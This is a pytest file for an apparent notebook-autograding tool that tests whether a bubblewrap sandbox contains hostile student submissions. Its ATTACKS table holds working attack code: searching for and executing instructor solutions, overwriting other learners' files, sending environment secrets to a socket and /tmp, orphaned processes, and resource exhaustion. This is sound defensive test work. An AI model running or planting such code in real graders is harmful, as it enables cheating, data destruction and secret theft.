"""annlib grade's bubblewrap sandbox against submissions that attack the machine, not the checks.

Every attack is graded twice: in the sandbox (the default), where it must be contained while the honest
answer beside it keeps its marks, nothing on disk outside the scratch folder changes and the batch goes
on; and with `--sandbox none`, where each test asserts the harm the attack really does, so that every
test can fail. The sandboxed cases are skipped, with the reason, where bubblewrap does not work.

The attacks write their proof (what they read, how many processes they started, ...) to an evidence
folder whose path they are given: they can only write there when nothing stops them.
"""

import copy
import hashlib
import json
import os
import secrets
import shutil
import signal
import socket
import threading
import time
import warnings
from pathlib import Path

import pytest

from annlib.cli import main
from annlib.grading.grade import grade_all
from annlib.grading.kernel import ForkServer
from annlib.grading.notebook import NotebookFormatError
from annlib.grading.release import release
from annlib.grading.sandbox import Limits, check, choose, parse_size

SOURCE = Path(__file__).parent / "fixtures" / "grading" / "source"
# Generous: on a loaded machine three processes touching 1 GB each can take several seconds, and a cell
# stopped by its time limit would hide the harm the unsandboxed tests must show.
TIMEOUT = 30.0
SIGMOID = "def sigmoid(z):\n    return 1.0 / (1.0 + np.exp(-z))"
SQUARE_SUM = "def square_sum(x):\n    return float(np.sum(np.asarray(x, dtype=float) ** 2))"
NO_SANDBOX = check()
if NO_SANDBOX is not None:
    warnings.warn(f"the sandboxed grading tests are skipped: {NO_SANDBOX}")
needs_sandbox = pytest.mark.skipif(NO_SANDBOX is not None, reason=f"no bubblewrap sandbox here: {NO_SANDBOX}")

# Each attack is (answer to sigmoid, answer to square_sum, a cell added after sigmoid's answer); None is the
# honest answer, or no added cell.
# {evidence}, {token}, {port}, {sleep_a}, {sleep_b}, {sleep_many} are filled in per run.
ATTACKS = {
    "steals_solutions": (
        None,
        """def square_sum(x):
    raise NotImplementedError()

import json, os
def _search():
    for top in ("/tmp", "/work", "/home", "/srv", "/root", os.path.expanduser("~")):
        for base, folders, files in os.walk(top):
            folders[:] = [f for f in folders if not f.startswith(".")]
            for name in files:
                if name == "ex_fixture.ipynb":
                    try:
                        text = open(os.path.join(base, name)).read()
                    except OSError:
                        continue
                    if "### BEGIN " + "SOLUTION" in text:  # not this very file
                        return os.path.join(base, name), json.loads(text)
    return None, None
_path, _source = _search()
if _source is not None:
    for _cell in _source["cells"]:
        if _cell["metadata"].get("nbgrader", {}).get("solution") and _cell["cell_type"] == "code":
            exec("".join(_cell["source"]), globals())
    open("{evidence}/steals_solutions", "w").write(_path)
""",
        None,
    ),
    "overwrites_files": (
        None,
        None,
        """
import os
import resource
_hit = []
for base, folders, files in os.walk("/tmp"):
    folders[:] = [f for f in folders if not f.startswith(".") and f != "site-packages"]
    for name in files:
        path = os.path.join(base, name)
        try:
            if name.endswith((".ipynb", ".py", ".json", ".csv")) and os.path.getsize(path) < 1 << 20 \
                    and b"{token}" in open(path, "rb").read():
                open(path, "w").write("pwned")
                _hit.append(path)
        except OSError:
            pass
open("{evidence}/overwrites_files", "w").write("\\n".join(_hit))
""",
    ),
    "leaks_environment": (
        None,
        None,
        """
import os, socket
_env = "\\n".join(f"{k}={v}" for k, v in os.environ.items())
try:
    _env += open("/proc/self/environ").read().replace("\\0", "\\n")
except OSError:
    pass
try:
    open("/tmp/annlib-leak-{token}.txt", "w").write(_env)
except OSError:
    pass
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as _s:
        _s.sendall(_env.encode())
except OSError:
    pass
""",
    ),
    "outlives_grading": (
        None,
        None,
        """
import os, subprocess
subprocess.Popen(["sleep", "{sleep_a}"], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "{sleep_b}"])
    os._exit(0)
""",
    ),
    "allocates_far_too_much": (
        None,
        "def square_sum(x):\n    hog = np.zeros(6 * 2**30 // 8)\n"
        "    return float(np.sum(np.asarray(x, dtype=float) ** 2))",
        None,
    ),
    "allocates_in_many_processes": (
        None,
        None,
        """
import os, time
import numpy
_children = []
for _i in range(3):  # 1 GB each, under the limit per process: 3 GB together
    _pid = os.fork()
    if _pid == 0:
        try:
            _result = str(numpy.ones((1 << 30) // 8).nbytes)
        except MemoryError:
            _result = "MemoryError"
        try:
            open(f"{evidence}/allocates_in_many_processes_{_i}", "w").write(_result)
        except OSError:
            pass
        time.sleep(3)
        os._exit(0)
    _children.append(_pid)
for _pid in _children:
    os.waitpid(_pid, 0)
""",
    ),
    "starts_hundreds_of_processes": (
        None,
        None,
        """
import subprocess
_started = []
try:
    for _ in range(600):
        _started.append(subprocess.Popen(["sleep", "{sleep_many}"]))
finally:
    try:
        open("{evidence}/starts_hundreds_of_processes", "w").write(str(len(_started)))
    except OSError:
        pass
""",
    ),
    "writes_a_huge_file": (
        None,
        "def square_sum(x):\n    with open('huge.bin', 'wb') as f:\n"
        "        f.seek(3 * 2**30)\n        f.write(b'x')\n"
        "    open('{evidence}/writes_a_huge_file', 'w').write(str(os.path.getsize('huge.bin')))\n"
        "    return float(np.sum(np.asarray(x, dtype=float) ** 2))",
        "import os",
    ),
    "fills_the_disk": (
        None,
        None,
        """
_written = 0
try:
    for _i in range(7):
        with open(f"fill{_i}.bin", "wb") as _f:
            for _ in range(100):
                _f.write(b"x" * (1 << 20))
                _written += 1 << 20
finally:
    try:
        open("{evidence}/fills_the_disk", "w").write(str(_written))
    except OSError:
        pass
""",
    ),
    "prints_hundreds_of_mb": (None, None, "for _ in range(300):\n    print('x' * 10**6)"),
}


def index_of(nb, grade_id):
    return next(i for i, c in enumerate(nb["cells"]) if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id)


def fill(text, values):
    for key, value in values.items():
        text = text.replace("{" + key + "}", str(value))
    return text


def build(student_nb, sigmoid, square_sum, added, values):
    nb = copy.deepcopy(student_nb)
    nb["cells"][index_of(nb, "sigmoid")]["source"] = SIGMOID if sigmoid is None else sigmoid
    nb["cells"][index_of(nb, "square_sum")]["source"] = fill(SQUARE_SUM if square_sum is None else square_sum, values)
    if added is not None:
        nb["cells"].insert(
            index_of(nb, "sigmoid") + 1,
            {
                "cell_type": "code",
                "execution_count": None,
                "metadata": {},
                "outputs": [],
                "source": fill(added, values),
            },
        )
    nb["metadata"]["course_run"] = values["token"]  # a mark the overwriting attack looks for
    return nb


def processes_running(argument):
    """Host processes whose command line holds `argument`."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if argument.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(int(pid))
        except OSError:
            continue
    return found


def kill_all(argument):
    for pid in processes_running(argument):
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass


def tree_digest(folder):
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


class Listener:
    """A TCP listener on 127.0.0.1 that keeps what it is sent."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port, self.received, self.running = self.server.getsockname()[1], b"", True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(2)
                try:
                    while chunk := connection.recv(65536):
                        self.received += chunk
                except OSError:
                    pass

    def close(self):
        self.running = False
        self.thread.join()
        self.server.close()


def grade_attacks(root, mode, names):
    """Build the course (a source copy, honest learners, attackers) in `root` and grade it in `mode`."""
    token = secrets.token_hex(8)
    number = str(secrets.randbelow(10**6)).zfill(6)
    values = {
        "token": token,
        "evidence": str(root / "evidence"),
        "sleep_a": f"7001.{number}",
        "sleep_b": f"7002.{number}",
        "sleep_many": f"7003.{number}",
    }
    (root / "evidence").mkdir()
    source = root / "course" / "source"
    shutil.copytree(SOURCE, source, ignore=shutil.ignore_patterns("__pycache__"))
    source_nb = json.loads((source / "ex_fixture.ipynb").read_text())
    source_nb["metadata"]["course_run"] = token
    (source / "ex_fixture.ipynb").write_text(json.dumps(source_nb))
    release(source, root / "release")
    student_nb = json.loads((root / "release" / "ex_fixture.ipynb").read_text())
    listener = Listener()
    values["port"] = listener.port
    paths = []
    for name in ["honest_a", "honest_b", *names]:
        attack = ATTACKS.get(name, (None, None, None))
        path = root / "submitted" / name / "ex_fixture.ipynb"
        path.parent.mkdir(parents=True)
        path.write_text(json.dumps(build(student_nb, *attack, values)))
        paths.append(path)
    secret = f"grader-secret-{token}"
    os.environ["ANNLIB_TEST_GRADER_SECRET"] = secret
    before = tree_digest(root)
    batch_error = None
    try:
        records = grade_all(paths, source, timeout=TIMEOUT, jobs=2, sandbox=mode)
    except NotebookFormatError as error:  # the source was overwritten while the batch ran
        records, batch_error = [], str(error)
    finally:
        del os.environ["ANNLIB_TEST_GRADER_SECRET"]
    time.sleep(0.5)  # anything that outlived grading has had time to show up
    outcome = {
        "records": {r["student"]: r for r in records},
        "batch_error": batch_error,
        "before": before,
        "after": tree_digest(root),
        "evidence": {p.name: p.read_text() for p in (root / "evidence").iterdir()},
        "secret": secret,
        "received": listener.received,
        "leak_file": Path(f"/tmp/annlib-leak-{token}.txt"),
        "alive": {key: processes_running(values[key]) for key in ("sleep_a", "sleep_b", "sleep_many")},
    }
    listener.close()
    for key in ("sleep_a", "sleep_b", "sleep_many"):
        kill_all(values[key])
    outcome["leaked_to_tmp"] = outcome["leak_file"].exists() and secret in outcome["leak_file"].read_text()
    outcome["leak_file"].unlink(missing_ok=True)
    return outcome


def points(record):
    return {c["grade_id"]: c["points"] for c in record["cells"]}


def cell(record, grade_id):
    return next(c for c in record["cells"] if c["grade_id"] == grade_id)


# ---------------------------------------------------------------------------------------------------------
# In the sandbox: every attack contained, honest work kept, nothing outside the scratch folder changed.


@pytest.fixture(scope="module")
def sandboxed(tmp_path_factory):
    if NO_SANDBOX is not None:
        pytest.skip(f"no bubblewrap sandbox here: {NO_SANDBOX}")
    return grade_attacks(tmp_path_factory.mktemp("sandboxed"), "bwrap", list(ATTACKS))


@needs_sandbox
def test_the_batch_goes_on_and_every_record_names_the_sandbox(sandboxed):
    records = sandboxed["records"]
    assert set(records) == {"honest_a", "honest_b", *ATTACKS}
    assert {r["sandbox"] for r in records.values()} == {"bwrap"}
    for name in ("honest_a", "honest_b"):
        assert records[name]["score"] == 5.0 and records[name]["error"] is None, records[name]


@needs_sandbox
def test_nothing_outside_the_scratch_folder_changes(sandboxed):
    assert sandboxed["after"] == sandboxed["before"]
    assert sandboxed["evidence"] == {}  # no attack could even write its proof
    assert not sandboxed["leak_file"].exists()


@needs_sandbox
@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_the_honest_answer_beside_an_attack_keeps_its_marks(sandboxed, name):
    assert points(sandboxed["records"][name])["test_sigmoid"] == 2.0, sandboxed["records"][name]


@needs_sandbox
def test_the_source_notebook_cannot_be_found(sandboxed):
    record = sandboxed["records"]["steals_solutions"]
    assert points(record) == {"test_sigmoid": 2.0, "test_square_sum": 0.0, "explain": 0.0}
    assert "NotImplementedError" in cell(record, "test_square_sum")["feedback"]


@needs_sandbox
def test_other_learners_files_and_the_source_cannot_be_overwritten(sandboxed):
    assert sandboxed["records"]["overwrites_files"]["score"] == 5.0
    assert sandboxed["after"] == sandboxed["before"]


@needs_sandbox
def test_the_graders_environment_does_not_leak(sandboxed):
    assert sandboxed["records"]["leaks_environment"]["score"] == 5.0
    assert sandboxed["received"] == b""  # no network: the listener on 127.0.0.1 heard nothing
    assert not sandboxed["leaked_to_tmp"]


@needs_sandbox
def test_nothing_started_inside_outlives_grading(sandboxed):
    assert sandboxed["records"]["outlives_grading"]["score"] == 5.0
    assert sandboxed["alive"] == {"sleep_a": [], "sleep_b": [], "sleep_many": []}


@needs_sandbox
@pytest.mark.parametrize(
    "name, limit",
    [("allocates_far_too_much", "memory limit (2 GB)"), ("writes_a_huge_file", "file size limit (500 MB)")],
)
def test_a_limit_costs_only_the_cell_it_breaks_and_is_named(sandboxed, name, limit):
    record = sandboxed["records"][name]
    assert points(record) == {"test_sigmoid": 2.0, "test_square_sum": 0.0, "explain": 0.0}
    assert limit in cell(record, "test_square_sum")["feedback"]


@needs_sandbox
@pytest.mark.parametrize(
    "name, limit",
    [
        ("starts_hundreds_of_processes", "process limit (256)"),
        ("fills_the_disk", "scratch space limit (500 MB)"),
        ("prints_hundreds_of_mb", "output limit per cell"),
    ],
)
def test_an_added_cell_past_a_limit_is_stopped_and_reported(sandboxed, name, limit):
    record = sandboxed["records"][name]
    assert record["score"] == 5.0
    assert limit in record["error"], record["error"]


@needs_sandbox
def test_memory_is_limited_for_all_processes_together_where_cgroups_can_be_made(sandboxed):
    record = sandboxed["records"]["allocates_in_many_processes"]
    assert record["score"] == 5.0
    if os.geteuid() != 0:
        pytest.skip("as an ordinary user the memory limit holds per process only (no cgroups)")
    assert "memory limit (2 GB)" in record["error"], record["error"]


# ---------------------------------------------------------------------------------------------------------
# Without the sandbox, the same attacks do real harm: these tests show what the sandbox is for.


@pytest.fixture(scope="module")
def unsandboxed(tmp_path_factory):
    attacks = [name for name in ATTACKS if name not in ("overwrites_files", "prints_hundreds_of_mb")]
    outcome = grade_attacks(tmp_path_factory.mktemp("unsandboxed"), "none", attacks)
    # Overwriting the source breaks the rest of a batch: graded alone.
    outcome["overwrite"] = grade_attacks(tmp_path_factory.mktemp("overwrite"), "none", ["overwrites_files"])
    return outcome


def test_without_a_sandbox_the_solutions_are_found_and_earn_full_marks(unsandboxed):
    assert unsandboxed["records"]["steals_solutions"]["score"] == 5.0
    assert unsandboxed["evidence"]["steals_solutions"].endswith("ex_fixture.ipynb")


def test_without_a_sandbox_other_learners_files_and_the_source_are_overwritten(unsandboxed):
    outcome = unsandboxed["overwrite"]
    changed = {name for name, digest in outcome["after"].items() if outcome["before"].get(name) != digest}
    assert {"course/source/ex_fixture.ipynb", "submitted/honest_a/ex_fixture.ipynb"} <= changed, (
        outcome["evidence"],
        outcome["batch_error"],
        outcome["records"].get("overwrites_files"),
    )


def test_without_a_sandbox_the_environment_leaks_to_tmp_and_to_the_network(unsandboxed):
    assert unsandboxed["leaked_to_tmp"]
    assert unsandboxed["secret"].encode() in unsandboxed["received"]


def test_without_a_sandbox_processes_outlive_grading(unsandboxed):
    assert unsandboxed["alive"]["sleep_a"] and unsandboxed["alive"]["sleep_b"]


def test_without_a_sandbox_the_limits_do_not_exist(unsandboxed):
    records, evidence = unsandboxed["records"], unsandboxed["evidence"]
    assert records["allocates_far_too_much"]["score"] == 5.0  # 6 GB allocated
    assert int(evidence["starts_hundreds_of_processes"]) == 600
    assert int(evidence["writes_a_huge_file"]) > 3 * 2**30
    assert int(evidence["fills_the_disk"]) == 700 << 20
    allocated = [evidence.get(f"allocates_in_many_processes_{i}") for i in range(3)]
    assert allocated == [str(1 << 30)] * 3, (allocated, records["allocates_in_many_processes"])


def test_output_is_capped_only_in_the_sandbox(tmp_path):
    code = "while True:\n    print('x' * 10**6)"
    with ForkServer(["numpy"]) as server:
        with server.kernel(tmp_path) as kernel:
            started = time.perf_counter()
            reply = kernel.execute(code, 3)
    # no output limit stops it: it prints until the time limit (and, with hundreds of MB still to send, may
    # not even answer then; on a loaded machine the 3 s may pass before its first line arrives)
    assert reply.status in ("timeout", "hung") and time.perf_counter() - started >= 3
    if NO_SANDBOX is None:
        with ForkServer(["numpy"], sandbox=Limits()) as server:
            with server.kernel(tmp_path) as kernel:
                reply = kernel.execute(code, 3)
        assert reply.status == "limit" and "output limit per cell" in reply.detail  # stopped before the 3 s


# ---------------------------------------------------------------------------------------------------------
# Choosing the sandbox.


def test_sizes_are_read_in_powers_of_1024():
    assert [parse_size(s) for s in ("2G", "500M", "1m", "4096", "1.5k")] == [2 << 30, 500 << 20, 1 << 20, 4096, 1536]
    with pytest.raises(ValueError, match="parse_size: expected a size"):
        parse_size("lots")


def test_auto_falls_back_with_a_warning_and_bwrap_refuses(monkeypatch, tmp_path, capsys):
    from annlib.grading import sandbox

    monkeypatch.setattr(sandbox, "check", lambda: "bubblewrap (bwrap) is not installed")
    used, warning = choose("auto")
    assert used == "none" and "WITHOUT a sandbox" in warning and "apt-get install bubblewrap" in warning
    with pytest.raises(sandbox.SandboxUnavailable, match="install bubblewrap"):
        choose("bwrap")
    submitted = tmp_path / "submitted" / "ada" / "ex_fixture.ipynb"
    submitted.parent.mkdir(parents=True)
    release(SOURCE, tmp_path / "release")
    shutil.copy(tmp_path / "release" / "ex_fixture.ipynb", submitted)
    assert main(["grade", str(submitted), "--source", str(SOURCE), "--sandbox", "bwrap"]) == 1
    assert "install bubblewrap" in capsys.readouterr().err
    assert main(["grade", str(submitted), "--source", str(SOURCE), "--json", str(tmp_path / "g.json")]) == 0
    assert "WARNING" in capsys.readouterr().err
    [record] = json.loads((tmp_path / "g.json").read_text())
    assert record["sandbox"] == "none"


@needs_sandbox
def test_the_command_line_sandboxes_by_default_and_records_it(tmp_path):
    submitted = tmp_path / "submitted" / "ada" / "ex_fixture.ipynb"
    submitted.parent.mkdir(parents=True)
    release(SOURCE, tmp_path / "release")
    nb = json.loads((tmp_path / "release" / "ex_fixture.ipynb").read_text())
    nb["cells"][index_of(nb, "sigmoid")]["source"] = SIGMOID
    submitted.write_text(json.dumps(nb))
    assert (
        main(
            [
                "grade",
                str(submitted),
                "--source",
                str(SOURCE),
                "--csv",
                str(tmp_path / "g.csv"),
                "--memory",
                "1G",
                "--processes",
                "64",
            ]
        )
        == 0
    )
    header, row = (tmp_path / "g.csv").read_text().splitlines()
    assert header.endswith(",sandbox") and row.endswith(",bwrap") and ",2.0,6.0," in row


@needs_sandbox
def test_a_sandboxed_kernel_has_no_privileges_no_network_and_sees_only_its_folder(tmp_path, monkeypatch):
    (tmp_path / "data.csv").write_text("1,2\n")
    monkeypatch.setenv("ANNLIB_TEST_GRADER_SECRET", "do-not-pass")
    probe = {
        "status": "[l.split(':')[1].strip() for l in open('/proc/self/status') "
        "if l.startswith(('Uid', 'CapEff', 'CapPrm', 'CapBnd', 'NoNewPrivs'))]",
        "files": "sorted(os.listdir('.'))",
        "processes": "len([p for p in os.listdir('/proc') if p.isdigit()])",
        "secret": "os.environ.get('ANNLIB_TEST_GRADER_SECRET')",
        "network": "connect()",
    }
    code = (
        "import os, socket\ndef connect():\n    try:\n        socket.create_connection(('127.0.0.1', 9), 1)\n"
        "    except OSError as error:\n        return type(error).__name__\n"
    )
    with ForkServer(["numpy"], sandbox=Limits()) as server:
        with server.kernel(tmp_path) as kernel:
            reply = kernel.execute(code, 20, probe)
    values = {name: eval(reply.user_expressions[name]["data"]["text/plain"]) for name in probe}
    uid, eff, prm, bnd, no_new_privs = values["status"]
    assert uid.split()[0] != "0" and {eff, prm, bnd} == {"0000000000000000"} and no_new_privs == "1"
    assert values["files"] == ["data.csv"]
    assert values["processes"] <= 4  # bwrap's init, the holder, the kernel (and its listing)
    assert values["secret"] is None
    assert values["network"] in ("OSError", "ConnectionRefusedError")  # no route: "Network is unreachable"


@needs_sandbox
def test_a_hidden_folder_inside_the_python_environment_stays_hidden(tmp_path, monkeypatch):
    from annlib.grading import sandbox

    environment, course = tmp_path / "env", tmp_path / "env" / "course"
    course.mkdir(parents=True)
    (environment / "helper.py").write_text("x = 1\n")
    (course / "ex_fixture.ipynb").write_text("solutions")
    trees = sandbox.visible_trees()
    monkeypatch.setattr(sandbox, "visible_trees", lambda: sorted(trees + [str(environment)]))
    with sandbox.Sandbox(Limits(), hide=[course]) as box:
        assert Path(box.host_path(str(environment / "helper.py"))).read_text() == "x = 1\n"
        assert os.listdir(box.host_path(str(course))) == []


def answered_submission(tmp_path):
    submitted = tmp_path / "submitted" / "ada" / "ex_fixture.ipynb"
    submitted.parent.mkdir(parents=True)
    release(SOURCE, tmp_path / "release")
    nb = json.loads((tmp_path / "release" / "ex_fixture.ipynb").read_text())
    nb["cells"][index_of(nb, "sigmoid")]["source"] = SIGMOID
    submitted.write_text(json.dumps(nb))
    return submitted


@needs_sandbox
def test_a_lost_fork_server_is_replaced_never_by_unsandboxed_kernels(tmp_path, monkeypatch):
    from annlib.grading import grade as grading
    from annlib.grading import kernel as kernels

    def unsandboxed(cwd):
        raise AssertionError("an unsandboxed kernel was started")

    real_fork, lost = kernels.ForkServer._fork, []

    def fork_once_lost(self, request):
        if not lost:  # the first server dies as it is asked for a kernel
            lost.append(self)
            self.process.kill()
            self.process.wait()
        return real_fork(self, request)

    monkeypatch.setattr(grading, "Kernel", unsandboxed)
    monkeypatch.setattr(kernels.ForkServer, "_fork", fork_once_lost)
    [record] = grade_all([answered_submission(tmp_path)], SOURCE, timeout=20, jobs=1, sandbox="bwrap")
    assert lost and record["score"] == 2.0 and record["error"] is None and record["sandbox"] == "bwrap"

    def always_fails(self, request):
        raise RuntimeError("ForkServer.kernel: the kernel could not start: OSError: no namespaces")

    monkeypatch.setattr(kernels.ForkServer, "_fork", always_fails)
    [record] = grade_all([answered_submission(tmp_path / "again")], SOURCE, timeout=20, jobs=1, sandbox="bwrap")
    assert record["score"] == 0.0 and "no namespaces" in record["error"] and record["sandbox"] == "bwrap"


@needs_sandbox
def test_every_limit_reaches_the_kernel_as_given_not_as_another(tmp_path):
    # Each limit set to a value of its own, none of them the default, so that one taken for another shows.
    limits = Limits(memory=1536 << 20, processes=77, file_size=3 << 20, scratch=48 << 20)
    probe = {
        "fsize": "resource.getrlimit(resource.RLIMIT_FSIZE)[0]",
        "nproc": "resource.getrlimit(resource.RLIMIT_NPROC)[0]",
        "address": "resource.getrlimit(resource.RLIMIT_AS)[0]",
        "scratch": "os.statvfs('/tmp').f_blocks * os.statvfs('/tmp').f_frsize",
    }
    with ForkServer(["numpy"], sandbox=limits) as server:
        with server.kernel(tmp_path) as kernel:
            reply = kernel.execute("import os, resource", 20, probe)
    values = {name: eval(reply.user_expressions[name]["data"]["text/plain"]) for name in probe}
    assert values["fsize"] == 3 << 20
    assert values["nproc"] == 77
    assert values["address"] == 1536 << 20
    assert values["scratch"] == 48 << 20
